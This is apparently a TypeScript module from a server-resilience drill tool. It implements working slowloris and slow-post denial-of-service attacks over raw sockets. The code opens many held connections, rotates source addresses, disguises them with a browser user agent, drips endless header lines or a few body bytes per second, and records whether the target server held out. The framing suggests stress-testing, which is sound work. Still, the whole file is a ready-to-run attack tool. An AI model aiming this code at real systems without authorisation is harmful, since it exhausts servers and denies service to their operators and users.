// Slow-client attacks on raw sockets: slowloris (a request head that never ends, one more header line
// every few seconds) and slow-post (a complete head, then a body at a few bytes per second). Each
// connection is one send; its outcome is recorded when the peer closes it, or at the end of the drill
// (still held open → reached: the attack kept its hold on the server).

import net, { type Socket } from 'node:net';
import tls from 'node:tls';
import { type Random, randomToken } from './attack-requests.js';
import { type AttackOutcome, classifyAnswer, classifyFailure } from './outcome.js';
import { parseRawAnswer } from './raw-answer.js';
import type { DrillTarget } from './target.js';
import { type AttackPart, type AttackRecorder, settled } from './traffic.js';

export type SlowKind = 'slowloris' | 'slow-post';

export interface SlowConnectionsOptions {
  name: SlowKind;
  /** New connections per second. */
  rate: number;
  target: DrillTarget;
  sources: (string | undefined)[];
  /** Connections held open at once. */
  maxOpen: number;
  random: Random;
  record: AttackRecorder;
}

const TICK_MS = 1_000;
/** Slowloris sends one more header line every this many ticks. */
const HEADER_EVERY_TICKS = 3;
/** Slow-post body bytes per tick, and the body length it announces (never reached within 300 s). */
const BODY_BYTES_PER_TICK = 4;
const ANNOUNCED_BODY_BYTES = 8_192;
const KEPT_ANSWER_BYTES = 16_384;
const USER_AGENT =
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36';

interface Held {
  socket: Socket;
  connected: boolean;
  answer: Buffer[];
  answerBytes: number;
  error: Error | undefined;
  recorded: boolean;
}

export class SlowConnections implements AttackPart {
  readonly name: SlowKind;
  readonly rate: number;
  private readonly open = new Set<Held>();
  private readonly ticker: NodeJS.Timeout;
  private ticks = 0;
  private cursor = 0;
  private closed = false;

  constructor(private readonly opts: SlowConnectionsOptions) {
    this.name = opts.name;
    this.rate = opts.rate;
    this.ticker = setInterval(() => this.trickle(), TICK_MS);
  }

  fire(): boolean {
    if (this.closed || this.open.size >= this.opts.maxOpen) return false;
    const { target, sources } = this.opts;
    const localAddress = sources[this.cursor];
    this.cursor = (this.cursor + 1) % sources.length;
    const where = { host: target.address, port: target.port, ...(localAddress ? { localAddress } : {}) };
    const socket = target.tls
      ? tls.connect({
          ...where,
          rejectUnauthorized: false,
          ...(target.servername ? { servername: target.servername } : {}),
          ALPNProtocols: ['http/1.1'],
        })
      : net.connect(where);
    const held: Held = {
      socket,
      connected: false,
      answer: [],
      answerBytes: 0,
      error: undefined,
      recorded: false,
    };
    this.open.add(held);
    this.opts.record.sent();
    socket.setNoDelay(true);
    socket.once(target.tls ? 'secureConnect' : 'connect', () => {
      held.connected = true;
      socket.write(this.head());
    });
    socket.on('data', (chunk: Buffer) => {
      if (held.answerBytes >= KEPT_ANSWER_BYTES) return;
      held.answer.push(chunk);
      held.answerBytes += chunk.length;
    });
    socket.on('error', (error) => {
      held.error ??= error;
    });
    socket.once('close', () => {
      this.open.delete(held);
      this.settle(held, this.outcomeOnClose(held));
    });
    return true;
  }

  private head(): string {
    const { target, random } = this.opts;
    if (this.name === 'slowloris') {
      return `GET /?${randomToken(random, 8)} HTTP/1.1\r\nHost: ${target.host}\r\nUser-Agent: ${USER_AGENT}\r\nAccept-Language: en-US,en;q=0.5\r\n`;
    }
    return `POST /login HTTP/1.1\r\nHost: ${target.host}\r\nUser-Agent: ${USER_AGENT}\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: ${ANNOUNCED_BODY_BYTES}\r\n\r\n`;
  }

  private trickle(): void {
    this.ticks++;
    const loris = this.name === 'slowloris';
    if (loris && this.ticks % HEADER_EVERY_TICKS !== 0) return;
    for (const held of this.open) {
      if (!held.connected || held.socket.destroyed || held.answerBytes > 0) continue;
      held.socket.write(
        loris
          ? `X-${randomToken(this.opts.random, 4)}: ${randomToken(this.opts.random, 6)}\r\n`
          : 'a'.repeat(BODY_BYTES_PER_TICK),
      );
    }
  }

  private outcomeOnClose(held: Held): AttackOutcome {
    const answer = parseRawAnswer(Buffer.concat(held.answer));
    if (answer) return classifyAnswer(answer);
    if (held.error) return classifyFailure(held.error);
    return 'blocked'; // closed by the peer without a word
  }

  private settle(held: Held, outcome: AttackOutcome): void {
    if (held.recorded) return;
    held.recorded = true;
    this.opts.record.outcome(outcome);
  }

  /** Nothing to wait for: a slow connection never finishes by itself, so the end of the drill settles it. */
  pending(): number {
    return 0;
  }

  async close(): Promise<void> {
    this.closed = true;
    clearInterval(this.ticker);
    for (const held of this.open) {
      const answer = parseRawAnswer(Buffer.concat(held.answer));
      this.settle(held, answer ? classifyAnswer(answer) : held.connected ? 'reached' : 'unanswered');
      held.socket.destroy();
    }
    await settled(() => this.open.size, 1_000);
  }
}
